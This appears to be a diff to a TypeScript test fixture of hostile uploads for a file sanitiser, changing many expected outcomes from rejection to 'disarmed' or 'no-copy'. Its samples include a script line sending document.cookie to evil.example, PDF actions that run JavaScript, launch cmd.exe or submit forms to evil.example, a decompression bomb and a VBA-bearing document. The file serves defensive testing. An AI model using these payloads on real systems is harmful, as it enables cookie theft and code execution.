@@ -19,10 +19,8 @@ import { box, film, track, uint32 } from './sample-films.ts'
 
 /** After `ftyp` and the header of `mdat`. */
 const FILM_PICTURE_AT = 28
-const ACTIVE = { status: 415, cause: 'active_content' } as const
 const DAMAGED = { status: 422, cause: 'damaged_file' } as const
 const WRONG_TYPE = { status: 415, cause: 'wrong_type' } as const
-const PROTECTED = { status: 422, cause: 'protected_file' } as const
 const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
 
 const evidence = (
@@ -104,17 +102,19 @@ const overlapping = once((): Buffer => {
 
 /** For both kinds of upload. */
 export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
-  evidence('a PDF that runs a script when it is opened', ACTIVE, () =>
+  evidence('a PDF that runs a script when it is opened', 'disarmed', () =>
     opening('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
   ),
-  evidence('a PDF that runs a script under escaped names', ACTIVE, () =>
+  evidence('a PDF that runs a script under escaped names', 'disarmed', () =>
     opening('<< /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>'),
   ),
-  evidence('a PDF with the script in a compressed object', ACTIVE, () => scriptedPdf('/ObjStm')),
-  evidence('a PDF with the script in a compressed object of a broken table', ACTIVE, () =>
+  evidence('a PDF with the script in a compressed object', 'disarmed', () =>
+    scriptedPdf('/ObjStm'),
+  ),
+  evidence('a PDF with the script in a compressed object of a broken table', 'disarmed', () =>
     broken(pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.from(SCRIPTED))))),
   ),
-  evidence('a PDF with objects in another encoding', ACTIVE, () =>
+  evidence('a PDF with objects in another encoding', 'disarmed', () =>
     broken(
       pdf(
         undefined,
@@ -122,7 +122,7 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
       ),
     ),
   ),
-  evidence('a PDF with objects encoded twice', ACTIVE, () =>
+  evidence('a PDF with objects encoded twice', 'disarmed', () =>
     broken(
       pdf(
         undefined,
@@ -133,22 +133,24 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
       ),
     ),
   ),
-  evidence('a PDF that starts a program', ACTIVE, () => opening('<< /S /Launch /F (cmd.exe) >>')),
-  evidence('a PDF with a file inside', ACTIVE, () =>
+  evidence('a PDF that starts a program', 'disarmed', () =>
+    opening('<< /S /Launch /F (cmd.exe) >>'),
+  ),
+  evidence('a PDF with a file inside', 'disarmed', () =>
     pdf(undefined, stream(7, '/Type /EmbeddedFile', Buffer.from('MZ'))),
   ),
-  evidence('a PDF that sends a form', ACTIVE, () =>
+  evidence('a PDF that sends a form', 'disarmed', () =>
     opening('<< /S /SubmitForm /F (https://evil.example/) >>'),
   ),
-  evidence('a PDF that opens a PDF on another server', ACTIVE, () =>
+  evidence('a PDF that opens a PDF on another server', 'disarmed', () =>
     opening('<< /S /GoToR /F (//evil.example/a.pdf) >>'),
   ),
-  evidence('a PDF with an XFA form', ACTIVE, () => opening('<< /XFA 7 0 R >>')),
+  evidence('a PDF with an XFA form', 'disarmed', () => opening('<< /XFA 7 0 R >>')),
   evidence('a truncated PDF', DAMAGED, () => pdf().subarray(0, 300)),
   evidence('a PDF of 300 pages', 'disarmed', () => manyPages(300), { mustVanish: [AUTHOR] }),
   evidence(
     'a PDF whose compressed object expands to 300 MB',
-    PROTECTED,
+    { status: 422, cause: 'too_complex' },
     once(() =>
       broken(pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.alloc(300 * MEGABYTE))))),
     ),
@@ -156,7 +158,7 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
   evidence('a PDF of 19 MB of escaped letters', 'disarmed', escapedLetters, {
     mustVanish: [AUTHOR],
   }),
-  evidence('a PDF whose compressed objects overlap', PROTECTED, overlapping),
+  evidence('a PDF whose compressed objects overlap', 'disarmed', overlapping),
   evidence('a picture of 256 megapixels', { status: 422, cause: 'too_many_pixels' }, vast, {
     name: 'vast.png',
   }),
@@ -188,12 +190,12 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
   evidence('TIFF as evidence', WRONG_TYPE, () => picture(64, 64).tiff().toBuffer(), {
     name: 'scan.tiff',
   }),
-  evidence('a document with an embedded OLE object', ACTIVE, () =>
+  evidence('a document with an embedded OLE object', 'no-copy', () =>
     docx([part('word/embeddings/oleObject1.bin', 'x')]),
   ),
   evidence(
     'an old Word document with a VBA project',
-    ACTIVE,
+    'no-copy',
     () => doc(['WordDocument', 'VBA', '_VBA_PROJECT']),
     { name: 'a.doc' },
   ),
@@ -230,8 +232,10 @@ export const HOSTILE_FILMS: readonly HostileFile[] = [
   evidence('a film with bytes after its boxes', DAMAGED, () =>
     film({ end: Buffer.from('<html>') }),
   ),
-  evidence('a film whose track refers to another server', ACTIVE, () =>
-    film({ dref: box('url ', uint32(0), 'https://evil.example/who-looks.mp4\0') }),
+  evidence(
+    'a film whose track refers to another server',
+    { status: 415, cause: 'active_content' },
+    () => film({ dref: box('url ', uint32(0), 'https://evil.example/who-looks.mp4\0') }),
   ),
   evidence('a film with location data only', 'disarmed', () => film({ picture: Buffer.alloc(0) }), {
     mustVanish: [SECRET_PLACE],
